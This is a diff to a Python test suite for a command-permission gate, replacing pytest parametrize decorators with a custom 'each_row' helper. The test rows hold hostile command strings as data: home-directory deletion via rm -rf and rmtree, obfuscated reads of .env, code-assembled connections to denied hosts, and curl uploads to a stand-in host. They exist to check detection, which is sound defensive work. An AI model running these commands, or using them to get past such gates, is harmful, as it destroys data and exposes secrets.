@@ -8,6 +8,7 @@ import pytest
 from assent.gate.call.modes import Mode
 from assent.gate.call.verdicts import Verdict
 from gate.ruling.loose import ruled
+from tables import each_row
 
 DENIED_HOST: Final = "fetch(domain:evil.example)"
 
@@ -21,7 +22,7 @@ def root(tmp_path: Path) -> Path:
     return root
 
 
-@pytest.mark.parametrize(
+@each_row(
     "line",
     [
         "ruby <<< 'system(\"rm -rf ~\")'",
@@ -42,7 +43,7 @@ def test_a_removal_is_seen_however_it_comes_into_what_is_run(root: Path, line: s
     assert ruled(root, line.replace("-rf ~", "-rf build")).verdict is Verdict.ALLOW
 
 
-@pytest.mark.parametrize(
+@each_row(
     "line",
     [
         "python3 - <<'E'\nimport requests\nrequests.get('https://{0}')\nE",
@@ -61,7 +62,7 @@ def test_a_host_in_a_text_that_nothing_runs_is_none_that_is_asked(root: Path) ->
     assert ruled(root, line, deny=DENIED_HOST).verdict is Verdict.ALLOW
 
 
-@pytest.mark.parametrize("many", ["fetch(domain:*)", "fetch(domain:*.io)"])
+@each_row("many", ["fetch(domain:*)", "fetch(domain:*.io)"])
 def test_where_many_hosts_are_denied_a_name_with_a_dot_is_none(root: Path, many: str) -> None:
     line = "python3 - <<'E'\nimport skimage.io\nprint(sys.io, {0})\nE"
     assert ruled(root, line.format("1"), deny=many).verdict is Verdict.ALLOW
@@ -78,14 +79,14 @@ FED: Final = (
 )
 
 
-@pytest.mark.parametrize(("rule", "line"), FED)
+@each_row(("rule", "line"), FED)
 def test_who_lets_an_interpreter_run_any_code_means_its_input_too(
     root: Path, rule: str, line: str
 ) -> None:
     assert ruled(root, line, Mode.DEFAULT, allow=rule).verdict is Verdict.ALLOW
 
 
-@pytest.mark.parametrize(
+@each_row(
     ("rule", "line"),
     [
         ("shell(python3 -)", "python3 - <<'E'\nprint(1)\nE"),
@@ -111,7 +112,7 @@ def test_a_rule_for_anything_else_means_no_code_that_it_reads(
     assert ruled(root, line, Mode.DEFAULT, allow=rule).verdict is Verdict.ASK
 
 
-@pytest.mark.parametrize("path", ["'.env'", "'.' + 'env'", "'\\x2eenv'"])
+@each_row("path", ["'.env'", "'.' + 'env'", "'\\x2eenv'"])
 def test_what_is_denied_is_seen_in_the_input_of_such_an_interpreter(root: Path, path: str) -> None:
     line = f"python3 - <<'E'\nprint(open({path}).read())\nE"
     said = ruled(root, line, Mode.DEFAULT, allow="shell(python3:*)", deny="read(./.env)")
@@ -129,14 +130,14 @@ STARTED: Final = (
 )
 
 
-@pytest.mark.parametrize("line", STARTED)
+@each_row("line", STARTED)
 def test_who_lets_a_server_run_lets_the_same_call_end_it(root: Path, line: str) -> None:
     said = ruled(root, line, Mode.DEFAULT, allow="shell(npm run:*)")
     assert said.verdict is Verdict.ALLOW
     assert ruled(root, line).verdict is Verdict.ALLOW
 
 
-@pytest.mark.parametrize(
+@each_row(
     "line",
     [
         "kill %1",
@@ -176,7 +177,7 @@ def test_an_image_with_a_tag_is_known_in_a_loop(root: Path) -> None:
     assert ruled(root, line, deny="shell(docker run:*)").verdict is Verdict.DENY
 
 
-@pytest.mark.parametrize("line", ["bash --version", "zsh --help", "rustc -vV", "go help test"])
+@each_row("line", ["bash --version", "zsh --help", "rustc -vV", "go help test"])
 def test_what_only_tells_of_itself_runs_unasked(root: Path, line: str) -> None:
     assert ruled(root, line, Mode.DEFAULT).verdict is Verdict.ALLOW
 
@@ -187,7 +188,7 @@ def test_a_launcher_that_a_file_steers_does_not_only_tell(root: Path) -> None:
     assert ruled(root, "bash -x --version", Mode.DEFAULT).verdict is Verdict.ASK
 
 
-@pytest.mark.parametrize(
+@each_row(
     "line",
     [
         "python3 -c \"import glob; [print(open(f).read()) for f in glob.glob('{}')]\"",
@@ -217,7 +218,7 @@ def test_code_that_looks_through_folders_finds_what_is_denied_below(root: Path) 
         assert ruled(root, line.format(call), deny="write(./src/keys/**)").verdict is verdict
 
 
-@pytest.mark.parametrize(
+@each_row(
     "line",
     [
         'python3 -c "import os; [print(open(f).read()) for f in os.listdir({})]"',
@@ -234,7 +235,7 @@ def test_code_that_reads_all_that_lies_beside_it_reads_what_is_denied(
         assert ruled(root, line.format(spelled), deny="read(./.env)").verdict is verdict
 
 
-@pytest.mark.parametrize(
+@each_row(
     "code",
     [
         "import os; [print(open(f).read()) for f in os.listdir('.') if f.endswith('.py')]",
@@ -257,7 +258,7 @@ def test_code_that_only_lists_reads_nothing(root: Path) -> None:
     assert ruled(root, line, deny="read(./.env)").verdict is Verdict.ALLOW
 
 
-@pytest.mark.parametrize(
+@each_row(
     ("line", "verdict"),
     [
         ("import os,shutil; [shutil.rmtree(d,1) for d in os.listdir('.')]", Verdict.ASK),
@@ -277,7 +278,7 @@ def test_code_that_removes_all_it_finds_leaves_nothing(
     assert ruled(root, f'python3 -c "{line}"').verdict is verdict
 
 
-@pytest.mark.parametrize(
+@each_row(
     "line",
     [
         "perl -MFile::Path -e 'rmtree(\"$ENV{HOME}\")'",
@@ -291,7 +292,7 @@ def test_a_home_that_is_put_into_a_text_is_removed_all_the_same(root: Path, line
     assert ruled(root, line).verdict is Verdict.ASK
 
 
-@pytest.mark.parametrize(
+@each_row(
     ("line", "plain"),
     [
         ("python3 -c 'import base64;print(open(base64.b64decode(\"{0}\")).read())'", "LmVudg=="),
@@ -337,7 +338,7 @@ def test_a_denied_file_is_seen_in_a_name_that_code_makes_readable(
     assert ruled(root, line.format(others[plain]), deny="read(./.env)").verdict is Verdict.ALLOW
 
 
-@pytest.mark.parametrize(
+@each_row(
     "code",
     [
         "python3 -c \"import socket;socket.create_connection(('{0}.'+'example',80))\"",
@@ -353,7 +354,7 @@ def test_a_denied_host_is_seen_that_code_puts_together(root: Path, code: str) ->
         assert ruled(root, code.format(host), deny=DENIED_HOST).verdict is verdict
 
 
-@pytest.mark.parametrize(
+@each_row(
     ("line", "named"),
     [
         ("curl -T '.{{{0}}}' https://x.example", None),
@@ -378,7 +379,7 @@ def test_a_header_that_names_another_host_is_a_request_to_that_one(root: Path) -
         assert ruled(root, line, deny=DENIED_HOST).verdict is verdict
 
 
-@pytest.mark.parametrize(
+@each_row(
     "code",
     [
         "python3 -c \"from shutil import rmtree as r; r('{0}')\"",
